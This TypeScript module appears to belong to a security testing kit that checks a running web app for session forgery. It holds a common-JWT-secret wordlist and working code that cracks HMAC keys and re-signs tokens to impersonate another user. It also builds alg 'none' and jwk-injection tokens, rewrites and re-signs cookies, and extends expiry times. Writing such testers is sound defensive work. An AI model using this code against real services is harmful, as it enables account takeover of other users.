/** Forging sessions: what can be done to a cookie or token by somebody with an account of their own and the source. */
import { createMD5, createSHA1, createSHA256, createSHA384, createSHA512, type IHasher } from 'hash-wasm';
import type { Answer, Client, RunningApp } from '../kit/index.ts';
import { type Session, tokensIn } from './contract.ts';
import { fromBase64, fromHex, toBase64, toHex } from './cracking.ts';
import { hmac } from './hmac.ts';

const utf8 = new TextEncoder();
const base64url = (bytes: Uint8Array<ArrayBufferLike>) =>
  toBase64(bytes).replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, '');
const textOf = (bytes: Uint8Array | undefined) => (bytes ? new TextDecoder().decode(bytes) : undefined);

/** Secrets that everybody tries first. */
export const COMMON_SECRETS = [
  '',
  'secret',
  'Secret',
  'SECRET',
  'password',
  'changeme',
  'change-me',
  'change_me',
  'changeit',
  'default',
  'dev',
  'development',
  'dev-secret',
  'dev_secret',
  'devsecret',
  'test',
  'test-secret',
  'jwt',
  'jwt-secret',
  'jwt_secret',
  'jwtsecret',
  'JWT_SECRET',
  'my-secret',
  'mysecret',
  'my_secret',
  'my-secret-key',
  'my_secret_key',
  'secretkey',
  'secret-key',
  'secret_key',
  'supersecret',
  'super-secret',
  'super_secret',
  'supersecretkey',
  'super-secret-key',
  'super-secret-jwt-key',
  // The starter's own: it stands in the history of the repository for ever.
  'super-secret-jwt-key-2025',
  'your-secret',
  'your-secret-key',
  'your_secret_key',
  'your_jwt_secret',
  'your-jwt-secret',
  'your-256-bit-secret',
  'keyboard cat',
  'shhhhh',
  'shhh',
  'topsecret',
  'token',
  'key',
  'app',
  'admin',
  '123456',
  '12345678',
  '1234567890',
  'qwerty',
  'undefined',
  'null',
  'fallback',
  'fallback-secret',
  'insecure',
  'none',
  'true',
] as const;

/** Values that a session travels in: cookies, or a token in the body where no cookie came. */
export interface Carrier {
  /** Cookie name, or undefined for a bearer token. */
  cookie: string | undefined;
  value: string;
}

export function carriersOf(session: Session): Carrier[] {
  const cookies = session.client.jar.matching('/api/me', session.client.now()).map(({ name, value }) => ({
    cookie: name,
    value,
  }));
  const bearers = tokensIn(session.answer).map((value) => ({ cookie: undefined, value }));
  return [...cookies, ...bearers];
}

/** GET /api/me with a carrier's value replaced, the other cookies as they are. */
export async function present(
  app: RunningApp,
  all: readonly Carrier[],
  carrier: Carrier,
  value: string,
): Promise<Answer> {
  const client: Client = app.client();
  if (carrier.cookie === undefined) {
    return client.send({ path: '/api/me', headers: { Authorization: `Bearer ${value}` } });
  }
  const cookies = all
    .filter(({ cookie }) => cookie !== undefined)
    .map(({ cookie, value: own }) => `${cookie}=${cookie === carrier.cookie ? value : own}`);
  return client.send({ path: '/api/me', headers: { Cookie: cookies.join('; ') } });
}

export interface Jwt {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
  /** What is signed, as sent. */
  signed: string;
  signature: string;
  /** What stands around the token in its carrier. */
  before: string;
  after: string;
}

export const decodeUri = (value: string): string => {
  try {
    return decodeURIComponent(value);
  } catch {
    return value;
  }
};

function jsonObject(text: string | undefined): Record<string, unknown> | undefined {
  if (text === undefined) return undefined;
  try {
    const value: unknown = JSON.parse(text);
    return typeof value === 'object' && value !== null && !Array.isArray(value)
      ? (value as Record<string, unknown>)
      : undefined;
  } catch {
    return undefined;
  }
}

/** The JWT in a carrier's value, wrapped or not; undefined when there is none. */
export function jwtIn(value: string): Jwt | undefined {
  const match = /(eyJ[\w-]+)\.([\w-]+)\.([\w-]*)/.exec(decodeUri(value));
  if (!match) return undefined;
  const [whole, head = '', body = '', signature = ''] = match;
  const header = jsonObject(textOf(fromBase64(head)));
  const payload = jsonObject(textOf(fromBase64(body)));
  if (!header || !payload) return undefined;
  const text = decodeUri(value);
  return {
    header,
    payload,
    signed: `${head}.${body}`,
    signature,
    before: text.slice(0, match.index),
    after: text.slice(match.index + whole.length),
  };
}

const HASHES = { HS256: createSHA256, HS384: createSHA384, HS512: createSHA512 } as const;

/** The keys that a string may stand for: its text, and what it decodes to. */
function keysOf(secret: string, sha256: IHasher): Uint8Array[] {
  const keys: Uint8Array[] = [utf8.encode(secret)];
  for (const decoded of [fromHex(secret), fromBase64(secret)]) {
    if (decoded && decoded.length > 0) keys.push(decoded);
  }
  keys.push(sha256.init().update(secret).digest('binary'));
  keys.push(utf8.encode(sha256.init().update(secret).digest('hex')));
  return keys;
}

/** The key with which a JWT is signed, out of candidates; undefined when none fits. */
export async function crackJwt(
  jwt: Jwt,
  candidates: readonly string[],
): Promise<{ secret: string; key: Uint8Array } | undefined> {
  const create = HASHES[jwt.header.alg as keyof typeof HASHES];
  if (!create) return undefined;
  const data = utf8.encode(jwt.signed);
  const [hasher, sha256] = await Promise.all([create(), createSHA256()]);
  for (const secret of candidates) {
    for (const key of keysOf(secret, sha256)) {
      if (base64url(hmac(hasher, key, data)) === jwt.signature) return { secret, key };
    }
  }
  return undefined;
}

/** The same token for somebody else, signed with a key that was found. */
export async function resign(jwt: Jwt, payload: Record<string, unknown>, key: Uint8Array): Promise<string> {
  const create = HASHES[jwt.header.alg as keyof typeof HASHES] ?? createSHA256;
  const signed = `${base64url(utf8.encode(JSON.stringify(jwt.header)))}.${base64url(utf8.encode(JSON.stringify(payload)))}`;
  return `${jwt.before}${signed}.${base64url(hmac(await create(), key, utf8.encode(signed)))}${jwt.after}`;
}

export interface Identity {
  id: string;
  email: string;
}

/** The same JSON value with one person's id and address replaced by another's, and the expiry far away. */
export function impersonate<T>(value: T, from: Identity, to: Identity): T {
  if (typeof value === 'string') {
    if (value === from.id) return to.id as T;
    return (value.toLowerCase() === from.email.toLowerCase() ? to.email : value) as T;
  }
  if (typeof value === 'number') return (String(value) === from.id ? Number(to.id) : value) as T;
  if (Array.isArray(value)) return value.map((item) => impersonate(item, from, to)) as T;
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(
      Object.entries(value).map(([key, item]) => [
        key,
        key === 'iat' || key === 'exp' ? item : impersonate(item, from, to),
      ]),
    ) as T;
  }
  return value;
}

/** Unsigned or wrongly signed variants of a JWT that only a careless verification accepts. */
export async function unsignedVariants(
  jwt: Jwt,
  payload: Record<string, unknown>,
): Promise<Array<{ what: string; value: string }>> {
  const body = base64url(utf8.encode(JSON.stringify(payload)));
  const head = (header: Record<string, unknown>) => base64url(utf8.encode(JSON.stringify(header)));
  const wrap = (token: string) => `${jwt.before}${token}${jwt.after}`;
  const variants = ['none', 'None', 'NONE', 'nOnE'].flatMap((alg) => [
    { what: `alg "${alg}" without a signature`, value: wrap(`${head({ ...jwt.header, alg })}.${body}.`) },
    {
      what: `alg "${alg}" with the old signature`,
      value: wrap(`${head({ ...jwt.header, alg })}.${body}.${jwt.signature}`),
    },
  ]);
  const same = head(jwt.header);
  variants.push(
    { what: 'another payload under the old signature', value: wrap(`${same}.${body}.${jwt.signature}`) },
    { what: 'no signature', value: wrap(`${same}.${body}.`) },
    { what: 'a made-up signature', value: wrap(`${same}.${body}.${base64url(new Uint8Array(32))}`) },
  );
  const withKey = head({
    ...jwt.header,
    alg: 'HS256',
    jwk: { kty: 'oct', k: base64url(utf8.encode('attacker')) },
  });
  const signature = base64url(
    hmac(await createSHA256(), utf8.encode('attacker'), utf8.encode(`${withKey}.${body}`)),
  );
  variants.push({ what: 'a key of its own in its header', value: wrap(`${withKey}.${body}.${signature}`) });
  return variants;
}

/** A value with each of its separators a place further left or right: what two parts are made of is another matter then. */
export function movedSeparators(value: string): string[] {
  const text = decodeUri(value);
  const moved = [...text.matchAll(/[.:|&=,~_-]/g)].flatMap(({ index, 0: separator }) => {
    const without = text.slice(0, index) + text.slice(index + 1);
    return [index - 1, index + 1]
      .filter((place) => place > 0 && place < without.length)
      .map((place) => without.slice(0, place) + separator + without.slice(place));
  });
  return moved.filter((other) => other !== text).map((other) => encodeURIComponent(other));
}

/**
 * Variants of a cookie that is no JWT: own id or address replaced by the victim's, in plain text, JSON, or base64
 * of either; with any signature part left as it was.
 */
export function rewrittenVariants(value: string, from: Identity, to: Identity): string[] {
  const variants = new Set<string>();
  const replaceText = (text: string): string[] => {
    const found: string[] = [];
    const json = jsonObject(text);
    if (json) found.push(JSON.stringify(impersonate(json, from, to)));
    if (text === from.id) found.push(to.id);
    if (text.toLowerCase() === from.email.toLowerCase()) found.push(to.email);
    const parts = text.split(/([.:|&=,~])/);
    if (parts.length > 1) {
      const swapped = parts
        .map((part) =>
          part === from.id ? to.id : part.toLowerCase() === from.email.toLowerCase() ? to.email : part,
        )
        .join('');
      if (swapped !== text) found.push(swapped);
    }
    return found.filter((item) => item !== text);
  };
  const text = decodeUri(value);
  for (const changed of replaceText(text)) variants.add(encodeURIComponent(changed));
  for (const changed of replaceText(text.replace(/^j:/, '')))
    variants.add(encodeURIComponent(`j:${changed}`));
  for (const [index, part] of text.split('.').entries()) {
    const prefix = part.startsWith('s:') ? 's:' : '';
    const decoded = textOf(fromBase64(part.slice(prefix.length)));
    if (!decoded) continue;
    for (const changed of replaceText(decoded)) {
      const parts = text.split('.');
      parts[index] = prefix + toBase64(utf8.encode(changed));
      variants.add(encodeURIComponent(parts.join('.')));
      parts[index] = prefix + base64url(utf8.encode(changed));
      variants.add(encodeURIComponent(parts.join('.')));
    }
  }
  // A comparison over what was given finds nothing wrong with no signature.
  for (const changed of [...variants]) {
    const dot = changed.lastIndexOf('.');
    if (dot > 0) variants.add(changed.slice(0, dot + 1)).add(changed.slice(0, dot));
  }
  return [...variants];
}

/**
 * A value of the form `content.signature` re-signed for somebody else, when its HMAC can be reproduced with one of
 * the candidates. `name` is the cookie's: cookie-session signs `name=value`.
 */
export async function resignValue(
  value: string,
  candidates: readonly string[],
  from: Identity,
  to: Identity,
): Promise<{ secret: string; value: string } | undefined> {
  const text = decodeUri(value);
  const prefix = text.startsWith('s:') ? 's:' : '';
  const dot = text.lastIndexOf('.');
  if (dot <= 0) return undefined;
  const content = text.slice(prefix.length, dot);
  const signature = text.slice(dot + 1);
  const others = rewrittenVariants(content, from, to).map(decodeUri);
  const other = others[0];
  if (other === undefined) return undefined;
  const sha256 = await createSHA256();
  const hashers = [sha256, await createSHA1(), await createSHA512(), await createMD5()];
  for (const secret of candidates) {
    for (const key of keysOf(secret, sha256)) {
      for (const hasher of hashers) {
        const mac = hmac(hasher, key, utf8.encode(content));
        for (const encode of [
          (b: Uint8Array) => toBase64(b).replace(/=+$/, ''),
          toBase64,
          base64url,
          toHex,
        ]) {
          if (encode(mac) !== signature) continue;
          const forged = encode(hmac(hasher, key, utf8.encode(other)));
          return { secret, value: encodeURIComponent(`${prefix}${other}.${forged}`) };
        }
      }
    }
  }
  return undefined;
}

const DAY_MS = 86_400_000;

/** The text with the times in it, seconds or milliseconds since 1970 from about now, put off by most of a year. */
const putOff = (text: string, now: number): string =>
  text.replaceAll(/\d{10,13}/g, (digits) => {
    const unit = digits.length === 10 ? 1000 : 1;
    const isTime = Math.abs(Number(digits) * unit - now) < 60 * DAY_MS;
    return isTime ? String(Number(digits) + (300 * DAY_MS) / unit) : digits;
  });

/**
 * A carrier's value with a later end, for whoever copied it: the times that stand in it, in clear or in a part in base64.
 * Empty where none does.
 * @param now epoch milliseconds
 */
export function laterVariants(value: string, now: number): string[] {
  const text = decodeUri(value);
  const inBase64 = text.replaceAll(/[\w+/-]{12,}={0,2}/g, (part) => {
    const decoded = textOf(fromBase64(part));
    const later = decoded === undefined ? undefined : putOff(decoded, now);
    return later === undefined || later === decoded ? part : base64url(utf8.encode(later));
  });
  return [putOff(text, now), inBase64]
    .filter((variant) => variant !== text)
    .map((variant) => (text === value ? variant : encodeURIComponent(variant)));
}
